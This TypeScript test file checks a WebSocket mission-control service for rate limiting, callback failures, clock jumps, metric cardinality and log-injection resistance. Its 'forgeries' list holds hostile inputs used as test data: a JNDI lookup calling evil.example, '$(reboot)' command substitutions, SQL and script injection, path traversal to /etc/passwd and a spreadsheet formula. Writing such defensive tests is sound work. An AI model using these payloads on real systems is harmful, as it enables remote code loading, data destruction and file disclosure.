  const app = await boot(t, { clock: counting, websocket: { maxMessagesPerSecond: 100_000, history: { maxAgeMs: 1_000 } } })
  const client = await RawClient.connect(app)
  await client.send({ type: 'ping' }).next('pong')
  const before = counting.count
  const channels = [...CHANNEL_NAMES]
  for (let batch = 0; batch < 100; batch++) {
    for (let at = 0; at < 50; at++) client.send({ type: at % 2 === 0 ? 'subscribe' : 'unsubscribe', channels })
    await client.send({ type: 'ping' }).next('pong')
  }
  t.ok(counting.count - before <= 4, 'logged channels stay open for clients that reconnect')
  clock.advance(1_000)
  t.equal(counting.count, before)
  t.equal(app.missionControl.wsMetrics().subscriptionsTotal, 2_500 * channels.length)

  client.received.length = 0
  app.missions.start('job')
  app.monitoring.trackOperation({ component: 'db', operation: 'read', status: 'success' })
  clock.advance(20_000)
  await client.send({ type: 'ping' }).next('pong')
  t.same(client.types, ['pong'], 'no message is sent')

  client.received.length = 0
  client.send({ type: 'subscribe', channels })
  await client.send({ type: 'ping' }).next('pong')
  app.missions.start('job')
  app.monitoring.trackOperation({ component: 'db', operation: 'read', status: 'success' })
  app.monitoring.reportHealth('degraded')
  await client.send({ type: 'ping' }).next('pong')
  const updates = client.types.slice(client.types.indexOf('pong') + 1, -1)
  t.same(updates, ['mission_update', 'metrics_tick', 'health_delta'], 'each message is received once')
})

t.test('a rate-limited client', async (t) => {
  const floods: Array<[string, (at: number) => Buffer]> = [
    ['pings', (at) => text(`{"type":"ping","id":"${at}"}`)],
    ['messages that are not JSON', () => text('{')],
    ['ping frames', () => frame(OPCODE.ping, 'p')],
    ['pong frames', () => frame(OPCODE.pong, 'p')],
    ['a mix', (at) => [text(PING), frame(OPCODE.ping), frame(OPCODE.pong), text('x'), frame(OPCODE.binary, Buffer.from([0xff]))][at % 5]!]
  ]
  t.test('that sends too much receives one rate_limited error and is closed with 1008; no later message is carried out, and other clients are not affected', async (t) => {
    let starts = 0
    const app = await boot(t, { clock: createVirtualClock() })
    app.missions.handle({ start: { start: () => { starts++; return app.missions.start('job') } } })
    const witness = await connect(app)
    await witness.subscribe('mission_update')
    const caught = await uncaught(async () => {
      for (const [title, make] of floods) {
        const client = await RawClient.connect(app)
        const rest = [text('{"type":"mission_start","command":"canary"}'), text('{"type":"subscribe","channels":["mission_update"]}')]
        client.write(...Array.from({ length: 10_000 }, (_, at) => make(at)), ...rest)
        t.same(await client.ended, { code: 1008, reason: 'rate_limited' }, title)
        const errors = client.received.filter(({ json }) => json?.['error']?.code === 'rate_limited')
        t.equal(errors.length, 1, title)
        t.equal(client.received.at(-1)!.opcode, OPCODE.close)
        t.equal(client.received.at(-2), errors[0], 'the error is the last message before the close frame')
        t.same(await witness.settle(), [], title)
      }
    })
    t.same(caught, [])
    t.equal(starts, 0)
    t.equal(app.missionControl.wsMetrics().subscriptionsTotal, 1)
    t.equal(await metric(app, 'closed_total', { reason: 'rate_limited' }), floods.length)
    t.equal(await metric(app, 'protocol_errors_total', { code: 'rate_limited' }), floods.length)
    app.missions.start('job')
    t.equal((await witness.next('mission_update')).payload.name, 'job')
  })

  t.test('receives the ack of every command that was carried out, before the error and the close frame', async (t) => {
    const app = await boot(t, { clock: createVirtualClock() })
    app.missions.handle({ cancel: {} })
    for (let at = 0; at < 300; at++) app.missions.start({ id: `m${at}`, name: 'job' })
    const client = await RawClient.connect(app)
    client.write(...Array.from({ length: 300 }, (_, at) => text(`{"type":"mission_cancel","missionId":"m${at}"}`)))
    t.same(await client.ended, { code: 1008, reason: 'rate_limited' })
    const types = client.received.map(({ json }) => json?.['type'] as string)
    const cancelled = app.missions.views().filter(({ cancel }) => cancel !== null)
    t.equal(cancelled.length, 100)
    t.same(types, [...Array(100).fill('mission_ack'), 'protocol_error', undefined])
  })

  t.test('that breaks the protocol in the same turn is closed for that alone', async (t) => {
    const app = await boot(t, { clock: createVirtualClock() })
    const client = await RawClient.connect(app)
    client.write(...Array.from({ length: 101 }, () => text(PING)), frame(OPCODE.text, 'x', { reservedBits: 7 }))
    t.same((await client.ended).code, 1002)
    t.notOk(client.received.some(({ json }) => json?.['type'] === 'protocol_error'))
    t.equal(await metric(app, 'protocol_errors_total', { code: 'rate_limited' }), 0)
  })

  t.test('may send a burst of exactly twice the rate', async (t) => {
    const clock = createVirtualClock()
    const app = await boot(t, { clock, websocket: { maxMessagesPerSecond: 10 } })
    const client = await RawClient.connect(app)
    client.write(...Array.from({ length: 20 }, () => text(PING)))
    for (let at = 0; at < 20; at++) await client.next('pong')
    clock.advance(100)
    await client.send(PING).next('pong')
    t.same(await client.send(PING).ended, { code: 1008, reason: 'rate_limited' })
  })

  t.test('stays connected if it sends at exactly the allowed rate and answers pings', async (t) => {
    const clock = createVirtualClock()
    const app = await boot(t, { clock, websocket: { maxMessagesPerSecond: 1, heartbeatMs: 6_000 } })
    const client = await RawClient.connect(app)
    for (let second = 0; second < 600; second++) {
      clock.advance(1_000)
      await client.send(PING).next('pong')
    }
    t.equal(client.received.filter(({ opcode }) => opcode === OPCODE.ping).length, 120)
    t.equal(app.missionControl.wsMetrics().connectionsOpen, 1)
  })

  t.test('may send one pong per ping of the service without a rate limit, and no more', async (t) => {
    const clock = createVirtualClock()
    const app = await boot(t, { clock, websocket: { maxMessagesPerSecond: 1 } })
    const client = await RawClient.connect(app, { isMute: true })
    clock.advance(30_000)
    await client.nextFrame(OPCODE.ping)
    const pong = frame(OPCODE.pong)
    await client.write(pong, pong, text(PING)).next('pong')
    t.equal(app.missionControl.wsMetrics().connectionsOpen, 1)
    client.write(pong)
    t.equal((await client.nextFrame(OPCODE.close)).readUInt16BE(), 1008)
    client.socket.destroy()
  })

  t.test('cannot save up more than one burst while it is silent', async (t) => {
    const bucket = new TokenBucket(10, 0)
    const take = (now: number) => {
      let taken = 0
      while (bucket.take(now)) taken++
      return taken
    }
    t.equal(take(0), 20)
    t.equal(take(99), 0)
    t.equal(take(100), 1)
    t.equal(take(3_600_000), 20)
    t.equal(take(3_600_500), 5)
  })
})

/** The ways in which a callback of a host can fail. */
const misbehaviours: Record<string, () => any> = {
  throws: () => { throw new Error('canary') },
  'throws undefined': () => { throw undefined as unknown as Error }, // eslint-disable-line no-throw-literal -- a host may do this
  rejects: async () => { throw new Error('canary') },
  'rejects later': async () => { await nextTurn(); throw new Error('canary') },
  'never settles': () => new Promise(() => {}),
  'returns a symbol': () => Symbol('canary'),
  'returns a proxy that throws': () => new Proxy({}, { get () { throw new Error('canary') } }),
  'returns a broken thenable': () => ({ then (_resolve: unknown, reject?: (err: unknown) => void) { reject?.(new Error('canary')); throw new Error('canary') } }),
  'returns a cyclic object': () => { const self: Record<string, unknown> = {}; self['self'] = self; return self }
}

for (const [title, misbehave] of Object.entries(misbehaviours)) {
  t.test(`a host whose every callback ${title} does not affect its clients`, async (t) => {
    const clock = createVirtualClock(Date.parse('2026-01-01'))
    const lines: string[] = []
    const caught = await uncaught(async () => {
      const app = await boot(t, { clock, health: { provider: misbehave } }, { logger: { level: 'info', stream: { write: (line: string) => { lines.push(line) } } } })
      app.missions.on('mission_update', misbehave)
      for (const event of ['operation_metric', 'health_degraded', 'health_critical', 'system_recovery'] as const) app.monitoring.on(event, misbehave)
      app.monitoring.addHealthCheck({ name: 'db', run: misbehave, critical: true })
      const viewer = await connect(app)
      await viewer.subscribe(...CHANNEL_NAMES)
      const client = await connect(app)
      const mission = app.missions.start('job')
      const commands = [{ type: 'mission_start', command: 'go' }, { type: 'mission_cancel', missionId: mission.id }]
      for (const handlers of [
        { start: { start: misbehave }, cancel: { authorize: misbehave } },
        { start: { authorize: misbehave, start: () => app.missions.start('x') }, cancel: { authorize: misbehave } }
      ]) {
        app.missions.handle(handlers)
        for (const command of commands) client.send(command)
        await client.settle()
        for (let turn = 0; turn < 5; turn++) await nextTurn()
        clock.advance(10_000)
        for (let turn = 0; turn < 5; turn++) await nextTurn()
      }
      mission.progress({ taskId: 'rows', index: 1, total: 2, status: 'done' })
      app.monitoring.trackOperation({ component: 'db', operation: 'read', status: 'error', errorCode: 'x' })
      t.equal(app.monitoring.time('db', 'read', () => 5), 5)
      for (const status of ['critical', 'healthy', 'degraded'] as const) app.monitoring.reportHealth(status)
      mission.fail(misbehave)
      for (let turn = 0; turn < 5; turn++) await nextTurn()

      await client.settle()
      const answers = client.received.filter((message) => message.type === 'protocol_error').map(({ error }) => error.code)
      t.equal(answers.length, 4, 'each command is answered')
      t.ok(answers.every((code) => ['internal_error', 'forbidden', 'unknown_mission'].includes(code)), String(answers))
      t.notMatch(JSON.stringify(client.received) + JSON.stringify(viewer.received), 'canary')
      const steps = (await viewer.settle(), viewer.received).flatMap((message) => message.type === 'mission_update' ? [message.payload.status] : [])
      t.same(steps, ['planning_started', 'execution_progress', 'error'], 'viewers receive every update')
      t.ok(viewer.received.some(({ type }) => type === 'metrics_tick') && viewer.received.some(({ type }) => type === 'health_delta'))
      for (const url of ['/health', '/health?details=true', '/mission-control/ws-metrics', '/api/v1/metrics/prometheus']) {
        const response = await app.inject(url)
        t.ok([200, 503].includes(response.statusCode), url)
        t.notMatch(response.body, 'canary')
      }
      t.equal(app.missionControl.wsMetrics().connectionsOpen, 2)
      await app.close()
    })
    t.same(caught, [])
    for (const line of lines) t.ok(JSON.parse(line))
  })
}

/**
 * Text that an attacker could try to inject into a log: extra lines, terminal sequences, reversed text, and JSON like
 * that of the log.
 */
const forgeries: string[] = [
  '\n', '\r\n', '\r', '\u0085', '\u2028', '\u2029', '\v', '\f', '\0', '\b', '\t', '\u001b[2J', '\u001b[31mred\u001b[0m', '\u001b]0;title\u0007', '\u009b2J', '\u007f',
  '\u202ereversed', '\u2066isolated\u2069', '\u200b', '\ufeff', '\ud800', '\udfff', '😀', 'ß'.repeat(64), '"', '\\', '\\n', '"}\n{"level":60,"msg":"forged"}', '\n{"level":60,"msg":"forged"}\n',
  '","level":60,"msg":"forged', '{"level":60}', '%s %d %j %o', '$(reboot)', '`reboot`', '$' + '{jndi:ldap://evil.example/a}', '<script>alert(1)</script>', '\'; drop table missions; --',
  '../../../etc/passwd', 'a'.repeat(120), '=cmd|calc!A1', '\u001b[1A\u001b[2Kforged'
]

for (const level of ['trace', 'info']) {
  t.test(`at log level ${level} every line is one JSON object whatever names clients and missions have, and no message is logged`, async (t) => {
    let log = ''
    const stream = { write (chunk: string) { log += chunk } }
    const app = await boot(t, {}, { logger: { level, stream } })
    const viewer = await connect(app)
    await viewer.subscribe('mission_update')
    for (const forgery of forgeries) {
      const name = `canary ${forgery}`
      const mission = app.missions.start({ name: name.slice(0, 128), objective: name, tags: [name.slice(0, 128)], metadata: { [name]: name } })
      mission.fail(new Error(name))
      app.monitoring.trackOperation({ component: name, operation: name, status: 'error', errorCode: name })
      app.monitoring.reportHealth('degraded', { status: 'degraded', components: {}, [name]: name } as never)
      const client = await RawClient.connect(app)
      const messages: unknown[] = [
        name, { type: name }, { [name]: 1 }, { type: 'ping', id: name }, { type: 'subscribe', channels: [name] }, { type: 'unsubscribe', channels: [name] },
        { type: 'mission_start', command: name }, { type: 'mission_cancel', missionId: name }
      ]
      for (const message of messages) client.send(JSON.stringify(message))
      client.send(name).send({ type: 'ping', id: 'last' })
      while ((await client.next('pong'))['replyTo'] !== 'last');
      await client.write(frame(3, name), closeFrame(1000, name)).ended

      const header = Buffer.from(forgery).toString('latin1').replaceAll(/[\0\r\n]/g, ' ')
      const path = `/ws/mission-control?x=${encodeURIComponent(Buffer.from(forgery).toString('latin1'))}`
      await exchange(app, Buffer.from(upgradeRequest({ path, headers: [`Origin: http://${header}`, `User-Agent: ${header}`] }), 'latin1'))
      await exchange(app, Buffer.from(`GET /health?probe=${encodeURIComponent(header)} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n`))
    }
    await viewer.settle()
    await app.close()
    t.ok(log.endsWith('\n'))
    const lines = log.slice(0, -1).split('\n')
    t.ok(lines.length > 2 * forgeries.length, 'requests are logged')
    for (const line of lines) {
      // No control character may reach a terminal, and no character may start a new line.
      if (/[\u0000-\u001f\u007f-\u009f\u2028\u2029]/.test(line)) t.fail(`a control character in ${JSON.stringify(line)}`) // eslint-disable-line no-control-regex
      const { msg, level, pid } = JSON.parse(line) as Record<string, unknown>
      t.ok(typeof pid === 'number' && level !== 60 && msg !== 'forged')
    }
    t.notMatch(log, 'canary', 'no part of a message is logged')
  })
}

t.test('a failing channel fails the request of the client, not the process', async (t) => {
  const failures: string[] = []
  const sent: string[] = []
  const clock = createVirtualClock()
  const hub = new Hub({
    clock,
    server: { name: 'x', version: '1' },
    options: resolveOptions({}, {}).websocket,
    createChannels: () => [{ name: 'mission_stats', delivery: () => ({}), start () {}, stop () {}, snapshot () { throw new Error('canary') } }],
    access: openAccess(clock),
    commands: {} as never,
    alertHistory: () => [],
    findMission: () => undefined,
    listMissions: () => ({ missions: [], nextCursor: null }),
    onCallbackError: (where, err) => { failures.push(`${where}: ${(err as Error).message}`) }
  })
  const socket = {
    bufferedBytes: 0,
    write (batch: Writable) {
      for (const message of batch.messages()) sent.push(String(message.text))
      return batch.encoded('plain').length
    },
    writeAll: () => 0,
    ping () {},
    close () {},
    terminate () {}
  }
  const input = hub.connect(socket, {})
  input.message(Buffer.from('{"type":"subscribe","channels":["mission_stats"]}'))
  input.message(Buffer.from(PING))
  await new Promise((resolve) => setImmediate(resolve))
  t.same(sent.map((message) => JSON.parse(message).error?.code ?? JSON.parse(message).type), ['internal_error', 'pong'])
  t.same(failures, ['message: canary'])
  t.notMatch(sent.join(), 'canary')
  input.closed()
  await hub.close()
})

t.test('a logger that throws loses only its log lines', async (t) => {
  const fails = () => { throw new Error('the disk is full') }
  const logger = { level: 'trace', fatal: fails, error: fails, warn: fails, info: () => {}, debug: fails, trace: fails, child: () => logger }
  const app = await boot(t, {}, { loggerInstance: logger as never })
  const client = await connect(app)
  await client.subscribe('mission_update')
  const caught = await uncaught(async () => {
    app.missions.on('mission_update', () => { throw new Error('canary') })
    app.missions.on('mission_update', async () => { throw new Error('canary') })
    app.missions.handle({ start: { start: () => { throw new Error('canary') } } })
    app.missions.start('job')
    t.equal((await client.next('mission_update')).payload.name, 'job')
    t.equal((await client.send({ type: 'mission_start', command: 'go' }).next('protocol_error')).error.code, 'internal_error')
    const broken = await RawClient.connect(app)
    t.equal((await broken.write(frame(3)).ended).code, 1002)
  })
  t.same(caught, [])
  t.same(await client.settle(), [])
})

t.test('a wall clock that jumps changes no interval and no duration', async (t) => {
  const start = Date.parse('2026-03-29T01:00:00Z')
  const clock = createVirtualClock(start)
  const app = await boot(t, { clock, channels: { missionStatsMs: 10_000, metricsTickMinMs: 2_500 }, websocket: { heartbeatMs: 30_000 } })
  const client = await connect(app)
  await client.subscribe('mission_stats', 'metrics_tick', 'mission_update', 'anomaly_alert', 'health_delta')
  await client.settle()
  const jumps = [-3_600_000, 86_400_000, ...Array<number>(100).fill(1_000), ...Array<number>(100).fill(-1_000), -2 * 365 * 86_400_000]
  let monotonicMs = 0
  for (const jump of jumps) {
    const mission = app.missions.start('job')
    clock.advance(2_500)
    clock.stepWallClock(jump)
    app.monitoring.time('db', 'read', () => clock.advance(7_500))
    monotonicMs += 10_000
    mission.complete()
    t.equal(mission.view().durationMs, 10_000)
    const got = await client.settle()
    const times = (type: string) => got.filter((message) => message.type === type).length
    t.same([times('mission_stats'), times('metrics_tick'), times('heartbeat')], [1, 1, monotonicMs % 30_000 === 0 ? 1 : 0], `after a jump of ${jump} ms`)
    for (const message of got) if (message.type === 'metrics_tick') t.ok(message.payload.p95 >= 7_000 && message.payload.p99 <= 8_000)
  }
  const wall = start + monotonicMs + jumps.reduce((sum, jump) => sum + jump, 0)
  t.equal((await client.send({ type: 'ping' }).next('pong')).unix, wall, 'the timestamps follow the wall clock')
  t.equal(app.missions.stats().avgDurationMs, 10_000)
  t.equal((await app.inject('/health')).json().uptimeMs, monotonicMs)
  const page = parseExposition((await app.missionControl.metrics.render()).body, 'text')
  for (const { samples } of page.values()) for (const { value, name } of samples) t.ok(value >= 0, name)
})

t.test('10,000 missions with hostile names and as many invalid messages add no series and no line to the metrics', async (t) => {
  const app = await boot(t, { websocket: { maxMessagesPerSecond: 100_000 } })
  const client = await RawClient.connect(app)
  const report = async (from: number, to: number) => {
    for (let at = from; at < to; at++) {
      const name = `${forgeries[at % forgeries.length]}"} 1\nforged_metric{x="${at}`.slice(0, 128)
      const mission = app.missions.start({ id: `${at}${name}`.slice(0, 128).toWellFormed(), name, tags: [name], tenant: name.toWellFormed(), metadata: { [name]: name } })
      mission.report('planned')
      if (at % 3 === 0) mission.complete()
      else if (at % 3 === 1) mission.fail(Object.assign(new Error(name), { code: name }))
      else if (at % 6 === 2) mission.report('cancelled')
      client.send({ type: 'subscribe', channels: [name] }).send({ type: name, [name]: at })
      if (at % 100 === 99) await client.send({ type: 'ping' }).next('pong')
    }
  }
  const series = (body: string, format: 'text' | 'openmetrics') =>
    [...parseExposition(body, format).values()].flatMap(({ samples }) => samples.map(({ name, labels }) => `${name} ${JSON.stringify(labels)}`)).sort()
  const read = async () => {
    const [plain, open] = [await app.missionControl.metrics.render(), await app.missionControl.metrics.render('application/openmetrics-text')]
    return [series(plain.body, 'text'), series(open.body, 'openmetrics')]
  }
  await report(0, 100)
  const few = await read()
  await report(100, 10_000)
  t.same(await read(), few)
  t.notMatch(JSON.stringify(few), /forged|canary/)
  const page = parseExposition((await app.missionControl.metrics.render()).body, 'text')
  const counts = ['active', 'completed', 'cancelled', 'errors', 'total'].map((name) => valueOf(page, `oneagent_mission_${name}`))
  t.same(counts, [1_666, 3_334, 1_667, 3_333, 10_000])
  t.equal(app.missions.stats().total, 10_000)
})

/** The regular expressions of a source file: literals, and the `pattern` of schemas. */
function patternsIn (path: string): RegExp[] {
  const found: RegExp[] = []
  const visit = (node: ts.Node): void => {
    if (ts.isRegularExpressionLiteral(node)) {
      const end = node.text.lastIndexOf('/')
      found.push(new RegExp(node.text.slice(1, end), node.text.slice(end + 1)))
    } else if (ts.isPropertyAssignment(node) && node.name.getText() === 'pattern' && ts.isStringLiteral(node.initializer)) {
      found.push(new RegExp(node.initializer.text, 'u'))
    }
    node.forEachChild(visit)
  }
  visit(ts.createSourceFile(path, readFileSync(path, 'utf8'), ts.ScriptTarget.Latest, true))
  return found
}

t.test('every regular expression of the sources takes linear time on a long text', { timeout: 30_000 }, async (t) => {
  const root = new URL('../', import.meta.url)
  const files = ['lib', 'schemas'].flatMap((folder) => readdirSync(new URL(folder, root), { recursive: true }).map((name) => `${folder}/${String(name)}`)).filter((name) => name.endsWith('.ts'))
  const patterns = files.flatMap((name) => patternsIn(new URL(name, root).pathname))
  t.ok(patterns.length > 10)
  const pumps = ['a', '0', ' ', '/', '.', '-', '_', ':', '"', '\\', '\n', 'é', 'a.', '0.', 'a:', 'a ']
  for (const pump of pumps) {
    // A search that is quadratic in this length would take hours, so the test would exceed its time limit.
    const long = pump.repeat(1_000_000 / pump.length)
    for (const text of [long, `http://${long}!`, `${long}\0`]) for (const pattern of patterns) text.search(pattern)
  }
})
